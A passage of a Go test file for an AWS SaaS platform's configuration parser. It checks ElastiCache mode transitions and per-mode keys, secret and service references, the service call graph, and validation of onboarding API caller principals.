		{"dev's replication group from before modes turning serverless without accepting it", "dev", ``, &on, "",
			"saas-platform:cache.mode", "deployed with mode nodes"},
		{"dev's replication group turning serverless, the replacement accepted", "dev", `{"acceptReplacement":true}`, &on, "nodes", "", ""},
		{"dev's serverless cache turning back to nodes without accepting it", "dev", `{"mode":"nodes"}`, &on, "serverless",
			"saas-platform:cache.mode", "set saas-platform:cache.acceptReplacement: true for this deployment"},
		{"prod switching cluster mode off", "prod", `{"clusterMode":false,"shards":1,"acceptReplacement":true}`, &on, "",
			"saas-platform:cache.clusterMode", "of a protected stack"},
		{"prod moving to cluster mode even when the replacement is accepted", "prod", `{"acceptReplacement":true}`, &off, "",
			"saas-platform:cache.clusterMode", "of a protected stack"},
		{"prod turning serverless even when the replacement is accepted", "prod", `{"mode":"serverless","acceptReplacement":true}`, &on, "nodes",
			"saas-platform:cache.mode", "of a protected stack"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			v := values(map[string]string{"saas-platform:sizing": tc.sizing, "saas-platform:cache": tc.cache})
			if tc.sizing == "prod" {
				v["saas-platform:domain"] = `{"certificateArn":"arn:aws:acm:ap-northeast-1:123456789012:certificate/abc"}`
			}
			s, err := config.Parse(project, tc.sizing, v)
			require.NoError(t, err)
			var deployed, deployedMode any
			if tc.deployed != nil {
				deployed = *tc.deployed
			}
			if tc.deployedMode != "" {
				deployedMode = tc.deployedMode
			}
			previous, err := config.DeployedFrom(nil, deployed, deployedMode)
			require.NoError(t, err)
			err = config.CheckTransitions(s, previous)
			if tc.key == "" {
				assert.NoError(t, err)
				return
			}
			var problems *config.Error
			require.ErrorAs(t, err, &problems)
			require.Len(t, problems.Problems, 1)
			assert.Equal(t, tc.key, problems.Problems[0].Key)
			assert.Contains(t, problems.Problems[0].Allowed, tc.allowed)
		})
	}
}

func TestTheCacheRefusesTheKeysOfTheModeItDoesNotRun(t *testing.T) {
	cases := []struct {
		name    string
		sizing  string
		cache   string
		key     string
		value   string
		allowed string
	}{
		{"a node type under dev's serverless cache", "dev", `{"nodeType":"cache.t4g.small"}`,
			"saas-platform:cache.nodeType", "cache.t4g.small", "applies only with cache.mode: nodes"},
		{"shards under a serverless cache", "dev", `{"mode":"serverless","shards":2}`,
			"saas-platform:cache.shards", "2", "applies only with cache.mode: nodes"},
		{"serverless limits under prod's nodes", "prod", `{"serverless":{"maxDataStorageGb":5}}`,
			"saas-platform:cache.serverless", `{"maxDataStorageGb":5}`, "applies only with cache.mode: serverless"},
		{"a mode that does not exist", "dev", `{"mode":"Serverless"}`,
			"saas-platform:cache.mode", "Serverless", "must be nodes (a Redis OSS replication group) or serverless"},
		{"a Valkey version serverless does not run", "dev", `{"serverless":{"engineVersion":"7.2"}}`,
			"saas-platform:cache.serverless.engineVersion", "7.2", `"7" or "8"`},
		{"a storage limit below ElastiCache's", "dev", `{"serverless":{"maxDataStorageGb":0}}`,
			"saas-platform:cache.serverless.maxDataStorageGb", "0", "between 1 and 5000"},
		{"an ECPU limit below ElastiCache's", "dev", `{"serverless":{"maxEcpuPerSecond":999}}`,
			"saas-platform:cache.serverless.maxEcpuPerSecond", "999", "between 1000 and 15000000"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			v := values(map[string]string{"saas-platform:sizing": tc.sizing, "saas-platform:cache": tc.cache})
			if tc.sizing == "prod" {
				v["saas-platform:domain"] = `{"certificateArn":"arn:aws:acm:ap-northeast-1:123456789012:certificate/abc"}`
			}
			_, err := config.Parse(project, tc.sizing, v)
			var problems *config.Error
			require.ErrorAs(t, err, &problems)
			require.Len(t, problems.Problems, 1)
			assert.Equal(t, tc.key, problems.Problems[0].Key)
			assert.Equal(t, tc.value, problems.Problems[0].Value)
			assert.Contains(t, problems.Problems[0].Allowed, tc.allowed)
		})
	}
}

func TestDevRunsAServerlessCacheAndProdItsNodes(t *testing.T) {
	dev, err := config.Parse(project, "dev", values(nil))
	require.NoError(t, err)
	_, err = config.Parse(project, "dev", values(map[string]string{"saas-platform:cache": `{"clusterMode":true}`}))
	assert.NoError(t, err, "a serverless cache speaks the cluster protocol: saying so is true")
	_, err = config.Parse(project, "dev", values(map[string]string{"saas-platform:cache": `{"clusterMode":false}`}))
	assert.ErrorContains(t, err, "saas-platform:cache.clusterMode: \"false\" applies only with cache.mode: nodes")
	assert.Equal(t, config.CacheModeServerless, dev.Cache.Mode)
	assert.False(t, dev.Alarms.Composite, "dev pages nobody: no composite alarms")
	nodes, err := config.Parse(project, "dev", values(map[string]string{"saas-platform:cache": `{"mode":"nodes"}`}))
	require.NoError(t, err)
	assert.Equal(t, "cache.t4g.micro", nodes.Cache.NodeType, "dev's nodes are the preset's")
	prod, err := config.Parse(project, "prod", values(map[string]string{"saas-platform:sizing": "prod",
		"saas-platform:domain": `{"certificateArn":"arn:aws:acm:ap-northeast-1:123456789012:certificate/abc"}`}))
	require.NoError(t, err)
	assert.Equal(t, config.CacheModeNodes, prod.Cache.Mode)
	assert.True(t, prod.Alarms.Composite)
}

func TestSecretsTakeAPlainReferenceNextToTheObjectForms(t *testing.T) {
	s, err := config.Parse(project, "dev", values(map[string]string{"saas-platform:services": `[
		{"name":"api","port":3000,"access":[{"tenants":"read"}],"migrate":{"command":["npm","run","migrate"]},
		 "secrets":{"DATABASE_URL":"${database.url}","REDIS_PASSWORD":"${cache.authToken}","JWT":{"generate":true}}},
		{"name":"worker","port":3001,"secrets":{"DB":"${database.secret}"}},
		{"name":"cache-only","port":3002,"environment":{"REDIS":"${cache.endpoint}"}},
		{"name":"static","port":80}]`}))
	require.NoError(t, err)
	api := s.Services[0]
	assert.Equal(t, config.RefDatabaseURL, api.Secrets["DATABASE_URL"].Reference)
	assert.Equal(t, config.RefCacheAuthToken, api.Secrets["REDIS_PASSWORD"].Reference)
	assert.True(t, api.Secrets["JWT"].Generate)
	assert.Equal(t, &config.Migrate{Command: []string{"npm", "run", "migrate"}}, api.Migrate)
	uses := map[string][3]bool{}
	for _, svc := range s.Services {
		uses[svc.Name] = [3]bool{svc.UsesDatabase(), svc.UsesCache(), svc.ReadsTenants()}
	}
	assert.Equal(t, map[string][3]bool{
		"api":        {true, true, true},
		"worker":     {true, false, false},
		"cache-only": {false, true, false},
		"static":     {false, false, false},
	}, uses, "database, cache, tenants' credentials: each only where a service names it")
}

func TestTheServiceGraphIsWhatReferencesCallsAndUsesDeclare(t *testing.T) {
	s, err := config.Parse(project, "dev", values(map[string]string{
		"saas-platform:services": `[
			{"name":"api","port":3000,"healthCheckPath":"/h","paths":["/api/*"],"priority":10,
			 "environment":{"WORKER":"${services.worker.url}","DB":"${database.host}:${database.port}"}},
			{"name":"worker","port":3001,"calls":["api"],"uses":["cache"]},
			{"name":"silent","port":3002},
			{"name":"web","port":80,"healthCheckPath":"/","paths":["/*"],"priority":20,
			 "environment":{"API":"${services.api.publicUrl}","AGAIN":"${services.api.url}","R":"${cache.endpoint}"}},
			{"name":"nightly","schedule":"rate(1 day)","environment":{"W":"${services.worker.url}"},"uses":["database"]}]`,
	}))
	require.NoError(t, err)
	byName := map[string]config.Service{}
	for _, svc := range s.Services {
		byName[svc.Name] = svc
	}
	cases := []struct {
		service         string
		callees         []string
		callers         []string
		database, cache bool
	}{
		{"api", []string{"worker"}, []string{"worker", "web"}, true, false},
		{"worker", []string{"api"}, []string{"api", "nightly"}, false, true},
		{"silent", nil, nil, false, false},
		{"web", []string{"api"}, nil, false, true},
		{"nightly", []string{"worker"}, nil, true, false},
	}
	for _, tc := range cases {
		t.Run(tc.service+" calls, is called by and uses what it declares", func(t *testing.T) {
			svc := byName[tc.service]
			assert.Equal(t, tc.callees, svc.Callees())
			assert.Equal(t, tc.callers, config.Callers(s.Services, tc.service))
			assert.Equal(t, tc.database, svc.UsesDatabase())
			assert.Equal(t, tc.cache, svc.UsesCache())
		})
	}
	assert.Equal(t, []string{"api", "nightly"}, config.ServicesUsing(s.Services, config.StoreDatabase))
	assert.Equal(t, []string{"worker", "web"}, config.ServicesUsing(s.Services, config.StoreCache))
}

func TestAReferenceInASecretCountsAsUse(t *testing.T) {
	svc := config.Service{Name: "api", Secrets: map[string]config.SecretSource{
		"PARAM": {Parameter: "/x/${cache.endpoint}"}}}
	assert.True(t, svc.UsesCache(), "any form of secret is scanned for references")
	assert.False(t, svc.UsesDatabase())
}

func TestTheOnboardingAPIsCallersMustBeNamedPrincipals(t *testing.T) {
	services := `[` + routed("api", 3000, 200) + `]`
	cases := []struct {
		name, callers, value, allowed string
	}{
		{"a wildcard", `["*"]`, "*", "the API is never public"},
		{"an account", `["123456789012"]`, "123456789012", "IAM role or user ARN"},
		{"an account's root", `["arn:aws:iam::123456789012:root"]`, "arn:aws:iam::123456789012:root", "IAM role or user ARN"},
		{"a role name with a wildcard", `["arn:aws:iam::123456789012:role/*"]`, "arn:aws:iam::123456789012:role/*", "IAM role or user ARN"},
		{"a service the stack does not run", `["service:billing"]`, "service:billing", "names no service of this stack"},
		{"another partition", `["arn:aws-cn:iam::123456789012:role/signup"]`, "arn:aws-cn:iam::123456789012:role/signup", "partition aws-cn"},
		{"the same caller twice", `["service:api", "service:api"]`, "service:api", "already listed at saas-platform:onboarding.callers[0]"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			_, err := config.Parse(project, "dev", values(map[string]string{
				"saas-platform:services":   services,
				"saas-platform:onboarding": `{"callers": ` + c.callers + `}`,
			}))
			var cfgErr *config.Error
			require.True(t, errors.As(err, &cfgErr), "%v", err)
			require.Len(t, cfgErr.Problems, 1, "%v", err)
			assert.Contains(t, cfgErr.Problems[0].Key, "saas-platform:onboarding.callers[")
			assert.Equal(t, c.value, cfgErr.Problems[0].Value)
			assert.Contains(t, cfgErr.Problems[0].Allowed, c.allowed)
		})
	}

	s, err := config.Parse(project, "dev", values(map[string]string{
		"saas-platform:services":   services,
		"saas-platform:onboarding": `{"callers": ["service:api", "arn:aws:iam::123456789012:role/ops/onboarding", "arn:aws:iam::123456789012:user/ci"]}`,
	}))
	require.NoError(t, err)
	assert.True(t, s.Onboarding.Enabled())
	s, err = config.Parse(project, "dev", values(map[string]string{"saas-platform:onboarding": `{}`}))
	require.NoError(t, err)
	assert.False(t, s.Onboarding.Enabled(), "no callers, no API")
}
